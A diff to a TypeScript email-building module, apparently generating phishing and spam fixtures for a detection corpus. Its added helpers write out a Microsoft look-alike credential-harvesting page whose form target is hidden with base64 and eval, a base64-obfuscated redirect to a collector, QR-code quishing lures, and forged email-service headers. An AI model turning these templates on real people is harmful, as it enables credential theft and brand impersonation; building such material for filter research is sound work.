@@ -7,6 +7,10 @@
 
 import { createHash } from 'node:crypto';
 
+import QRCode from 'qrcode';
+
+import { imagePdf, qrGrey } from './formats-builders.ts';
+
 /** The one-click unsubscribe header (RFC 8058) that bulk senders add beside List-Unsubscribe. */
 export const LIST_UNSUBSCRIBE_POST = 'List-Unsubscribe-Post: List-Unsubscribe=One-Click';
 
@@ -98,24 +102,26 @@ export function html(markup: string): Entity {
   return { headers: ['Content-Type: text/html; charset="UTF-8"', 'Content-Transfer-Encoding: quoted-printable'], body: quotedPrintable(markup) };
 }
 
-let boundaryCount = 0;
-
-/** A deterministic boundary in the style of the sending software. */
-function boundary(style: string): string {
-  boundaryCount += 1;
-  const hex = createHash('sha1').update(`${style}${boundaryCount}`).digest('hex');
-  return style === 'gmail' ? `000000000000${hex.slice(0, 16)}` : `----=_Part_${boundaryCount}_${hex.slice(0, 10)}.${hex.slice(10, 23)}`;
+/**
+ * A deterministic boundary in the style of the sending software, drawn from what it encloses:
+ * a message's bytes must not depend on which messages were built before it, so that a case
+ * keeps its bytes wherever its file imports it from.
+ */
+function boundary(style: string, enclosed: string): string {
+  const hex = createHash('sha1').update(`${style}\0${enclosed}`).digest('hex');
+  const part = Number.parseInt(hex.slice(23, 28), 16) % 5000;
+  return style === 'gmail' ? `000000000000${hex.slice(0, 16)}` : `----=_Part_${part}_${hex.slice(0, 10)}.${hex.slice(10, 23)}`;
 }
 
 export function multipart(subtype: 'alternative' | 'mixed' | 'related', parts: readonly Entity[], style = 'part'): Entity {
-  const mark = boundary(style);
+  const mark = boundary(style, `${subtype}\0${parts.map((part) => `${part.headers.join('\r\n')}\r\n\r\n${part.body}`).join('\0')}`);
   const body = [...parts.flatMap((part) => [`--${mark}`, ...part.headers, '', part.body]), `--${mark}--`, ''].join('\r\n');
   return { headers: [`Content-Type: multipart/${subtype}; boundary="${mark}"`], body };
 }
 
 /** A delivery status notification (RFC 3464): what the reader sees, the per-recipient status fields, the returned headers. */
 export function deliveryReport(human: Entity, status: readonly string[], returnedHeaders: readonly string[]): Entity {
-  const mark = boundary('report');
+  const mark = boundary('report', [...human.headers, human.body, ...status, ...returnedHeaders].join('\r\n'));
   const body = [
     `--${mark}`,
     ...human.headers,
@@ -380,4 +386,169 @@ export function mail(spec: MailSpec): Uint8Array {
     spec.body.body,
   ];
   return encoder.encode(lines.join('\r\n'));
+}
+
+// ---------------------------------------------------------------- Shared by the case files
+// Senders, ESP header fields, authentication outcomes and lure pages that cases of several
+// subjects use.
+
+/**
+ * The HTML attachment of invoice and voicemail phishing: a look-alike sign-in page, the
+ * victim's address filled in, the form posting to the criminal's collector, the script
+ * base64-wrapped as the kits do.
+ */
+export function loginPage(options: { title: string; brand: string; email: string; action: string; lang?: string; prompt?: string }): string {
+  const script = Buffer.from(`document.getElementById("f").action=atob("${Buffer.from(options.action).toString('base64')}");`).toString('base64');
+  return [
+    '<!DOCTYPE html>',
+    `<html lang="${options.lang ?? 'en'}"><head><meta charset="utf-8"><title>${options.title}</title>`,
+    '<meta name="robots" content="noindex, nofollow"><meta name="viewport" content="width=device-width, initial-scale=1">',
+    '<style>body{font-family:Segoe UI,Arial,sans-serif;background:#f2f2f2}.box{width:360px;margin:80px auto;background:#fff;padding:40px;box-shadow:0 2px 6px rgba(0,0,0,.2)}input{width:100%;padding:8px;margin:8px 0;border:0;border-bottom:1px solid #666}button{background:#0067b8;color:#fff;border:0;padding:8px 32px;float:right}</style></head>',
+    `<body><div class="box"><img src="https://aadcdn.msftauth.net/shared/1.0/content/images/microsoft_logo_ee5c8d9fb6248c938fd0dc19370e90bd.svg" alt="${options.brand}">`,
+    `<p>${options.prompt ?? "Because you're accessing sensitive info, you need to verify your password."}</p>`,
+    `<form id="f" method="POST"><input type="email" name="login" value="${options.email}" readonly><input type="password" name="passwd" placeholder="Password" required autofocus><button type="submit">Sign in</button></form></div>`,
+    `<script>eval(atob("${script}"))</script></body></html>`,
+  ].join('\n');
+}
+
+/** An inline picture referenced by `cid:` from the HTML, as picture-only lures carry it. */
+export function inlineImage(cid: string, name: string, bytes: Uint8Array): Entity {
+  return {
+    headers: [
+      `Content-Type: image/jpeg; name="${name}"`,
+      'Content-Transfer-Encoding: base64',
+      `Content-ID: <${cid}>`,
+      `Content-Disposition: inline; filename="${name}"`,
+    ],
+    body: Buffer.from(bytes).toString('base64').replace(/.{76}/g, '$&\r\n'),
+  };
+}
+
+/** The fields Amazon SES adds to what an account sends (region us-east-1 or eu-west-1). */
+export function sesHeaders(region: string, feedback: string, outgoing: string): readonly string[] {
+  return [`Feedback-ID: ${feedback}:${region}:AmazonSES`, `X-SES-Outgoing: ${outgoing}`];
+}
+
+/** Brevo's (ex-Sendinblue) campaign fields: its own Message-ID host, EID and unsubscribe link. */
+export function brevoHeaders(account: string, eid: string): readonly string[] {
+  return [
+    `List-Unsubscribe: <https://${account}.r.af.d.sendibt2.com/tr/un/li/${eid}>, <mailto:unsubscribe-${eid}@unsubscribe.brevo.com>`,
+    LIST_UNSUBSCRIBE_POST,
+    `X-Mailin-EID: ${eid}`,
+    `Feedback-ID: ${account}:brevo`,
+    'X-Mailer: Brevo',
+  ];
+}
+
+/** SendGrid's fields: the X-SG-EID and X-Entity-ID of the account, its click-tracking host. */
+export function sendgridHeaders(eid: string): readonly string[] {
+  return [`X-SG-EID: u001.${eid}`, `X-Entity-ID: u001.${eid.slice(0, 12)}==`];
+}
+
+/** Mailchimp's list fields for an account `u` and list `id`. */
+export function mailchimpHeaders(account: string, dc: string, u: string, id: string): readonly string[] {
+  return [
+    `List-Unsubscribe: <https://${account}.${dc}.list-manage.com/unsubscribe?u=${u}&id=${id}&t=b&e=5c1e9a7f20&c=8b2d4f6a1e>, <mailto:unsubscribe-mc.${dc}_${u}.8b2d4f6a1e-5c1e9a7f20@unsubscribe.mailchimpapp.net?subject=unsubscribe>`,
+    LIST_UNSUBSCRIBE_POST,
+    `List-ID: ${u}mc list <${u}.${id}.list-id.mcsv.net>`,
+    `X-MC-User: ${u}`,
+    `Feedback-ID: 1183554:1183554+8b2d4f6a1e:${dc}:mc`,
+  ];
+}
+
+/** Mailgun's fields on what an account sends: its tracking host sits on the sending domain. */
+export function mailgunHeaders(campaign: string): readonly string[] {
+  return [`X-Mailgun-Sid: WyI${campaign}IiwgIm1haWwiXQ==`, `X-Mailgun-Tag: ${campaign}`, 'X-Mailgun-Track: yes'];
+}
+
+/** A throw-away domain registered for the campaign: it signs, but publishes no DMARC. */
+export const THROWAWAY: AuthOutcome = { dmarc: 'none' };
+
+export const GMAIL = { dkim: ['gmail.com:20230601'], relay: 'mail-sor-f41.google.com [209.85.220.41]' } as const;
+
+export const OUTLOOK = { dkim: ['outlook.com:selector1'], relay: 'EUR05-AM6-obe.outbound.protection.outlook.com [40.92.58.101]' } as const;
+
+/** A one-page PDF whose only content is a QR code (scanned with a phone, outside the mail filter). */
+export function qrPdf(url: string, lines: readonly string[]): Uint8Array {
+  const { side, pixels } = qrGrey(url, 4);
+  return imagePdf(`/Width ${side} /Height ${side} /ColorSpace /DeviceGray /BitsPerComponent 8`, pixels, [], lines);
+}
+
+/** An HTML attachment that sends the browser to the collector with the victim's address in the fragment. */
+export function redirectPage(title: string, text: string, collector: string, victim: string): string {
+  return `<!DOCTYPE html><html><head><meta charset="utf-8"><title>${title}</title></head><body style="font-family:Segoe UI,Arial"><p>${text}</p><script>
+var t = atob("${Buffer.from(collector).toString('base64')}");
+var e = "${Buffer.from(victim).toString('base64')}";
+setTimeout(function () { window.location.replace(t + "#" + e); }, 800);
+</script></body></html>`;
+}
+
+/** A brand's own domain in From, sent from the criminal's server: unsigned, DMARC fails. */
+export const SPOOFED: AuthOutcome = { dkim: 'none', spf: 'softfail', dmarc: 'fail' };
+
+export const OUTLOOK_AM6_104 = { dkim: ['outlook.com:selector1'], relay: 'EUR05-AM6-obe.outbound.protection.outlook.com [40.92.58.104]' } as const;
+
+export const TRACE_FIELDS = /^(return-path|received|authentication-results|arc-[a-z-]+|x-received):/i;
+
+/** The message as a held-out set stripped of trace fields holds it: no Return-Path, Received or Authentication-Results. */
+export function withoutTrace(raw: Uint8Array): Uint8Array {
+  const text = new TextDecoder().decode(raw);
+  const end = text.indexOf('\r\n\r\n');
+  const fields: string[] = [];
+  for (const line of text.slice(0, end).split('\r\n')) {
+    if (/^[ \t]/.test(line) && fields.length > 0) fields[fields.length - 1] += `\r\n${line}`;
+    else fields.push(line);
+  }
+  const kept = fields.filter((field) => !TRACE_FIELDS.test(field));
+  return new TextEncoder().encode(`${kept.join('\r\n')}${text.slice(end)}`);
+}
+
+/** A QR code as the PNG picture quishing mail embeds. */
+export async function qrPngScale5(url: string): Promise<Uint8Array> {
+  return new Uint8Array(await QRCode.toBuffer(url, { type: 'png', scale: 5, margin: 4 }));
+}
+
+/** An inline picture referenced from the HTML by its Content-ID. */
+export function inlinePng(cid: string, name: string, bytes: Uint8Array): Entity {
+  return {
+    headers: [
+      `Content-Type: image/png; name="${name}"`,
+      'Content-Transfer-Encoding: base64',
+      `Content-ID: <${cid}>`,
+      `Content-Disposition: inline; filename="${name}"`,
+    ],
+    body: Buffer.from(bytes).toString('base64').replace(/.{76}/g, '$&\r\n'),
+  };
+}
+
+export const HOTMAIL_BRA = { dkim: ['hotmail.com:selector1'], relay: 'BRA01-CP2-obe.outbound.protection.outlook.com [40.92.42.17]' } as const;
+
+/** An Outlook forward: the rule, the quoted header block, then the letter; the HTML the same with the letter's markup. */
+export function outlookForward(header: readonly string[], letterText: string, letterMarkup: string) {
+  const rule = '________________________________';
+  return multipart('alternative', [
+    plain(`\n${rule}\n${header.join('\n')}\n\n${letterText}\n`),
+    html(
+      `<div><br></div><hr style="display:inline-block;width:98%"><div id="divRplyFwdMsg" dir="ltr"><font face="Calibri, sans-serif">${header.map((line) => line.replace(/</g, '&lt;').replace(/>/g, '&gt;')).join('<br>')}</font></div><div>${letterMarkup}</div>`,
+    ),
+  ]);
+}
+
+export const OUTLOOK_AM6_117 = { dkim: ['outlook.com:selector1'], relay: 'EUR05-AM6-obe.outbound.protection.outlook.com [40.92.58.117]' } as const;
+
+/** Braze, which dating and fitness apps send through: its list fields and SendGrid underneath. */
+export function brazeHeaders(unsubscribe: string, eid: string): readonly string[] {
+  return [`List-Unsubscribe: <${unsubscribe}>`, LIST_UNSUBSCRIBE_POST, ...sendgridHeaders(eid)];
+}
+
+/** A brand's own list fields: one-click unsubscribe on its sending domain. */
+export function listHeaders(unsubscribe: string, mailto?: string): readonly string[] {
+  return [`List-Unsubscribe: <${unsubscribe}>${mailto === undefined ? '' : `, <mailto:${mailto}>`}`, LIST_UNSUBSCRIBE_POST];
+}
+
+/** Microsoft 365's outbound relay for a tenant's own mail. */
+export const M365_RELAY = 'NAM12-BN8-obe.outbound.protection.outlook.com [40.107.212.91]';
+
+export function ics(lines: readonly string[]): string {
+  return ['BEGIN:VCALENDAR', 'VERSION:2.0', 'METHOD:REQUEST', 'BEGIN:VEVENT', ...lines, 'END:VEVENT', 'END:VCALENDAR', ''].join('\r\n');
 }
